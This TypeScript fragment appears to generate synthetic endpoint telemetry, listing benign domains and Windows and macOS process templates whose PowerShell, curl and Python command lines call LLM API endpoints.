  'mesu.apple.com',
  'ocsp.apple.com',
  'time.apple.com',
  'www.elastic.co',
  'artifacts.elastic.co',
  'cloud.elastic.co',
  'download.mozilla.org',
  'incoming.telemetry.mozilla.org',
  'd2e3f4g5h6.cloudfront.net',
  's3.amazonaws.com',
  'openai.com',
  'www.anthropic.com',
  'status.openai.com',
  'huggingface.co',
  'docs.mistral.ai',
  'azure.microsoft.com',
];

/** Command lines that carry an LLM URL (process events: the name is in the line, not in dns.question.name). */
export const WINDOWS_URL_COMMANDS: ProcessTemplate[] = [
  windows('powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', microsoftWindows, {
    arguments: ['-NoProfile', '-Command', 'Invoke-RestMethod -Uri https://%DOMAIN%/v1/chat/completions -Method Post -Headers $h -Body $b'],
    description: 'Windows PowerShell',
    parentName: 'cmd.exe',
  }),
  windows('curl.exe', 'C:\\Windows\\System32\\curl.exe', microsoftWindows, {
    arguments: ['-s', 'https://%DOMAIN%/v1/models', '-H', 'Authorization: Bearer %OPENAI_API_KEY%'],
    parentName: 'cmd.exe',
  }),
];
export const MACOS_URL_COMMANDS: ProcessTemplate[] = [
  macos('curl', '/usr/bin/curl', appleSoftware, {
    arguments: ['-sS', 'https://%DOMAIN%/v1/messages', '-H', 'x-api-key: $KEY'],
    parentName: 'zsh',
  }),
  macos('python3', '/usr/bin/python3', appleSoftware, {
    arguments: ['-c', 'import urllib.request as u; u.urlopen("https://%DOMAIN%/v1/models")'],
    parentName: 'zsh',
  }),
];
